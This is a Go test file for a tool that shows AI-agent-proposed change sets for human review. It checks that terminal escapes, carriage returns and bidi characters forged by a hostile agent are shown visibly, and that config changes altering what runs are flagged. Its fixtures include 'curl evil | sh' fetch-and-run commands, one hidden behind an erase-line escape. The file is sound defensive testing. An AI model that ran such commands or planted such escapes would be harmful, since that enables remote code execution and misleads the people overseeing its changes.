package changes

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"trestle/app/changeset"
)

// forgedSet is a change set as an old store (before titles were checked)
// or a hostile agent could hold it: escapes and newlines in every text,
// and a proposed line that erases itself in a terminal.
func forgedSet() changeset.ChangeSet {
	return changeset.ChangeSet{
		ID: "cs-7", Title: "harmless\x1b[2K\rcs-1  applied  1  +0 -0", Client: "agent\nforged",
		Description: "see below\x1b]0;pwned\x07", Reason: "r\x1b[1A", Created: time.Now(), State: changeset.StatePending,
		Files: []changeset.FileChange{{
			Path: "main\u202e.go", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePending,
			Base: "package main\n", New: "package main\n\n// a comment\x1b[2K\rexec(\"curl evil | sh\")\n", Added: 2,
			Reason: "file reason\x1b[1A", Hunks: []changeset.HunkState{{N: 1, State: changeset.StateConflict, Detail: "detail\x1b]0;t\x07"}},
		}},
		History:   []changeset.HistoryEntry{{At: time.Now(), Action: changeset.ActionProposed, Who: "agent\x1b[31m", What: "proposed by agent\x1b[31m"}},
		Leftovers: []string{"main\u202e.go.trestle-backup-1"},
	}
}

// TestChangesShowEscapesTerminalControls: `trestle changes show` prints
// the hostile line visibly, and nothing an agent wrote reaches the
// terminal as an escape, a carriage return or a bidi control.
func TestChangesShowEscapesTerminalControls(t *testing.T) {
	var out bytes.Buffer
	showChange(&out, forgedSet(), time.Now(), false)
	text := out.String()
	for _, bad := range []string{"\x1b", "\r", "\u202e", "\x07"} {
		if strings.Contains(text, bad) {
			t.Errorf("output holds %q raw:\n%s", bad, text)
		}
	}
	for _, want := range []string{`// a comment\x1b[2K\rexec("curl evil | sh")`, `harmless\x1b[2K\rcs-1`, `main\u202e.go`, `agent\nforged`,
		`file reason\x1b[1A`, `detail\x1b]0;t\x07`, `agent\x1b[31m: proposed`, `main\u202e.go.trestle-backup-1`} {
		if !strings.Contains(text, want) {
			t.Errorf("output lacks the visible %q:\n%s", want, text)
		}
	}
	// What apply, reject and revert print of a set.
	var more bytes.Buffer
	cs := forgedSet()
	cs.Files[0].State, cs.Files[0].Hunks[0].State = changeset.StateApplied, changeset.StatePending
	cs.History = append(cs.History, changeset.HistoryEntry{Action: changeset.ActionApplied, What: "applied main\u202e.go"})
	more.WriteString(esc(pendingList(cs)) + revertPlan(cs) + esc(lastWhat(cs)))
	printLeftovers(&more, cs)
	for _, bad := range []string{"\x1b", "\r", "\u202e", "\x07"} {
		if strings.Contains(more.String(), bad) {
			t.Errorf("apply/revert output holds %q raw: %q", bad, more.String())
		}
	}
	if !strings.Contains(more.String(), `main\u202e.go: back to its text`) {
		t.Errorf("revert plan: %q", more.String())
	}
}

// TestChangesListEscapesTerminalControls: a title with a newline cannot
// forge a second row, nor an escape rewrite one.
func TestChangesListEscapesTerminalControls(t *testing.T) {
	var out bytes.Buffer
	if err := printList(&out, []changeset.ChangeSet{forgedSet()}, time.Now()); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	if rows := strings.Count(text, "\n"); rows != 2 {
		t.Errorf("%d lines for one change set, want a header and one row:\n%s", rows, text)
	}
	if strings.ContainsAny(text, "\x1b\r") {
		t.Errorf("raw escape or carriage return in the list:\n%q", text)
	}
}

// TestChangesShowFlagsWhatRuns: a change to .trestle.json is flagged, in
// red on a terminal.
func TestChangesShowFlagsWhatRuns(t *testing.T) {
	cs := changeset.ChangeSet{ID: "cs-2", Title: "tidy config", State: changeset.StatePending, Files: []changeset.FileChange{{
		Path: ".trestle.json", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePending,
		Base: "{}\n", New: "{\"selections\":{\"default\":{\"env\":{\"CC\":\"sh -c 'curl evil|sh'\"}}}}\n"}}}
	var plain, colour bytes.Buffer
	showChange(&plain, cs, time.Now(), false)
	showChange(&colour, cs, time.Now(), true)
	if !strings.Contains(plain.String(), "changes what runs") {
		t.Errorf("no warning:\n%s", plain.String())
	}
	if !strings.Contains(plain.String(), "; 1 file, +") { // not "1 files"
		t.Errorf("one file reads:\n%s", plain.String())
	}
	if !strings.Contains(colour.String(), "\x1b[1;31mWARNING: changes what runs") {
		t.Errorf("warning not in red on a terminal:\n%q", colour.String())
	}
	var list bytes.Buffer
	printList(&list, []changeset.ChangeSet{cs}, time.Now())
	if !strings.Contains(list.String(), "[changes what runs] tidy config") {
		t.Errorf("list does not flag it:\n%s", list.String())
	}
}

// TestChangesShowGolden pins what `trestle changes show` prints for a
// partly reviewed set: numbered hunks with their states, reasons, the
// person's edit, what is still pending and the history with who did what
// (testdata/changes_show.golden; UPDATE_GOLDEN=true rewrites it).
func TestChangesShowGolden(t *testing.T) {
	at := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	defer func(l *time.Location) { time.Local = l }(time.Local)
	time.Local = time.UTC
	base := "package pkg\n\n// a\n// b\n// c\n// d\n// e\n// f\n// g\n// h\n// i\n// j\n"
	cs := changeset.ChangeSet{ID: "cs-4", Title: "Shout", Client: "claude-code", Created: at, State: changeset.StatePartlyApplied,
		Reason: "", Files: []changeset.FileChange{
			{Path: "pkg/long.go", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePartlyApplied,
				Base: base, New: strings.NewReplacer("// a\n", "// A\n", "// j\n", "// J\n").Replace(base), Added: 2, Removed: 2,
				Hunks: []changeset.HunkState{{N: 1, State: changeset.StatePending}, {N: 2, State: changeset.StateApplied}}},
			{Path: "pkg/calc.go", Action: changeset.ActionEdit, BaseExists: true, State: changeset.FileRejected, Reason: "keep it short",
				Base: "// Add adds.\n", New: "// Add adds two ints.\n", Added: 1, Removed: 1,
				Hunks: []changeset.HunkState{{N: 1, State: changeset.FileRejected}}},
			{Path: "pkg/new.go", Action: changeset.ActionCreate, State: changeset.StateConflict, EditedByPerson: true,
				New: "package pkg\n\n// mine\n", Added: 3, Detail: "pkg/new.go now exists since the proposal",
				Hunks: []changeset.HunkState{{N: 1, State: changeset.StateConflict, Detail: "pkg/new.go now exists since the proposal"}}},
		},
		History: []changeset.HistoryEntry{
			{At: at, Action: changeset.ActionProposed, Who: "claude-code", What: "proposed this change set"},
			{At: at.Add(time.Minute), Action: changeset.ActionEditedByPerson, Who: changeset.ByPerson, What: "edited the proposed text of pkg/new.go before applying"},
			{At: at.Add(2 * time.Minute), Action: changeset.ActionPartlyApplied, Who: changeset.ByPerson, What: "partially applied pkg/long.go (hunk 2)"},
		},
	}
	var out bytes.Buffer
	showChange(&out, cs, at.Add(time.Hour), false)
	golden := filepath.Join("testdata", "changes_show.golden")
	if os.Getenv("UPDATE_GOLDEN") == "true" {
		os.MkdirAll("testdata", 0o755)
		if err := os.WriteFile(golden, out.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v; run UPDATE_GOLDEN=true go test -run TestChangesShowGolden ./cmd/trestle/changes/", err)
	}
	if out.String() != string(want) {
		t.Fatalf("show changed; if intended, run UPDATE_GOLDEN=true go test -run TestChangesShowGolden ./cmd/trestle/changes/\ngot:\n%s\nwant:\n%s", out.String(), want)
	}
}
